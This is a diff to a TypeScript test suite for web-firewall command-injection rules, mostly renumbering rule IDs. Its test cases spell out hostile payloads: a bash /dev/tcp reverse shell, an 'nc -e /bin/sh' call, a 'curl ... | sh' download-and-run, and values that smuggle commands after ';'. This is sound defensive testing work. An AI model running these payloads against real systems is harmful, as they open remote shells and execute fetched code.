@@ -34,7 +34,7 @@ const CASES: Array<[number, RequestSpec, boolean]> = [
   [9000315, json('{"command":"bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'"}'), true],
   [9000315, q('x=%7Cnc+-e+%2Fbin%2Fsh+203.0.113.9+4444'), true],
   [9000314, header('SOAPAction', 'http://purenetworks.com/HNAP1/`wget http://x.test/a`'), false],
-  [9000314, json('{"host":"127.0.0.1;sh -c id"}'), false],
+  [9000385, json('{"host":"127.0.0.1;sh -c id"}'), false],
 ];
 
 let rules: Rule[];
@@ -131,10 +131,10 @@ const BODY_CASES: Array<[number, RequestSpec, RequestSpec, string]> = [
   [9000117, form('id=1+or+1&x=2'), SIGN_IN, 'needs a value that starts with a number (`=1`)'],
   [9000117, form('id=1+or+1&x=2'), upload, 'needs a value that starts with a number (`=1`)'],
   [9000321, form('cmd=sh+-c+%22curl+http://203.0.113.9/x|sh%22'), upload, 'needs `sh` and a space, not `\\n-` of a boundary line'],
-  [9000314, q('host=x;sh+-c+id'), SHOP_GET, 'needs `sh` and a space, not "shoes"'],
+  [9000385, q('host=x;sh+-c+id'), SHOP_GET, 'needs `sh` and a space, not "shoes"'],
 ];
 
-// An API client's JSON order: "shipping" holds `pin` (9000314's cut-down `ping `), but the request has
+// An API client's JSON order: "shipping" holds `pin` (9000314 rev 6's cut-down `ping `; 9000386's since rev 2026-12-10x), but the request has
 // no shell separator anywhere (the raw request keeps `;` alone as a condition; a browser's User-Agent has one).
 const API_ORDER: RequestSpec = {
   method: 'POST',
@@ -142,7 +142,7 @@ const API_ORDER: RequestSpec = {
   headers: [['Host', 'api.example.com'], ['User-Agent', 'okhttp/4.12.0'], ['Content-Type', 'application/json']],
   body: '{"shipping":{"street":"221B Baker Street"},"items":[{"sku":"RUN-42-BLU","qty":1}]}',
 };
-BODY_CASES.push([9000314, json('{"host":"x;ping -c 3 a.b.example.com"}'), API_ORDER, 'needs a shell separator somewhere in the request']);
+BODY_CASES.push([9000386, json('{"host":"x;ping -c 3 a.b.example.com"}'), API_ORDER, 'needs a shell separator somewhere in the request']);
 
 describe('bundled body rules ruled out by what must stand next to their everyday word', () => {
   it.each(BODY_CASES)('%i still fires on its attack (%#)', (sid, attack) => {
